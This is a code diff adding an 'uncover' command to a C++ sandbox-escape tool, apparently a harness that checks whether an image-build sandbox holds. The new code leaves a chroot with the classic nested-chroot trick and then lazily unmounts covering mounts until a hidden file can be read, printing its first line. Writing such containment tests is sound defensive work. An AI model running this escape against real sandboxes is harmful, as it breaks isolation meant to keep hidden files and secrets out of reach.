@@ -16,6 +16,7 @@
 #include <netinet/in.h>
 #include <signal.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/statvfs.h>
@@ -455,12 +456,67 @@ int SetuidArtifact(const std::string& dir) {
   return 0;
 }
 
+// uncover FILE: reads FILE, which the sandbox hides, by unmounting what covers it. First it
+// leaves the chroot(2) it may be in (the chroot isolation of an image build's RUN step), the
+// classic way: chroot into a new directory while the working directory stays above it, climb,
+// and chroot there. Then, while FILE cannot be read, it lazily unmounts the deepest mount point
+// above FILE. ESCAPED gives FILE's first line.
+int Uncover(const std::string& file) {
+  if (mkdir("/.uncover", 0700) == 0 || errno == EEXIST) {
+    if (chroot("/.uncover") == 0) {
+      for (int i = 0; i < 64; ++i) (void)!chdir("..");
+      (void)!chroot(".");
+    }
+  }
+  for (int round = 0; round < 32; ++round) {
+    std::string text;
+    int err = 0;
+    if (ReadAll(file, &text, &err)) {
+      Say("ESCAPED", "uncover", file, "first line: " + text.substr(0, text.find('\n')));
+      return 0;
+    }
+    // The deepest mount point that is FILE or one of its ancestors (the fifth field of
+    // /proc/self/mountinfo; spaces in it come escaped, and such a point is not ours).
+    std::string mountinfo;
+    if (!ReadAll("/proc/self/mountinfo", &mountinfo, &err)) {
+      Blocked("uncover", file, err, "read /proc/self/mountinfo");
+      return 0;
+    }
+    std::string deepest;
+    size_t at = 0;
+    while (at < mountinfo.size()) {
+      const size_t end = std::min(mountinfo.find('\n', at), mountinfo.size());
+      const std::string line = mountinfo.substr(at, end - at);
+      at = end + 1;
+      size_t field = 0, pos = 0;
+      for (int i = 0; i < 4 && pos != std::string::npos; ++i) pos = line.find(' ', pos + 1);
+      if (pos == std::string::npos) continue;
+      field = pos + 1;
+      const std::string point = line.substr(field, line.find(' ', field) - field);
+      const bool above = point == "/" || file == point ||
+                         (file.compare(0, point.size(), point) == 0 && file[point.size()] == '/');
+      if (above && point.size() > deepest.size()) deepest = point;
+    }
+    if (deepest.empty() || deepest == "/") {
+      Blocked("uncover", file, err, "read");
+      return 0;
+    }
+    if (umount2(deepest.c_str(), MNT_DETACH) != 0) {
+      Blocked("uncover", deepest, errno, "umount");
+      return 0;
+    }
+  }
+  Say("ERROR", "uncover", file, "still covered after 32 unmounts");
+  return 0;
+}
+
 int Usage() {
   std::fprintf(stderr,
                "usage: escape_attack identity OUT_FILE | sysctl PATH | kill PID |\n"
                "  abstract-connect NAME | unix-connect PATH | uring-connect PORT |\n"
                "  environ NAME | chmod PATH | utime PATH | setxattr PATH |\n"
-               "  fill PATH BYTES | mounts PATH... | proc-covers | setuid-artifact DIR\n");
+               "  fill PATH BYTES | mounts PATH... | proc-covers | setuid-artifact DIR |\n"
+               "  uncover FILE\n");
   return 2;
 }
 
@@ -485,5 +541,6 @@ int main(int argc, char** argv) {
   if (cmd == "mounts" && !args.empty()) return Mounts(args);
   if (cmd == "proc-covers" && need(0)) return ProcCovers();
   if (cmd == "setuid-artifact" && need(1)) return SetuidArtifact(args[0]);
+  if (cmd == "uncover" && need(1)) return Uncover(args[0]);
   return Usage();
 }
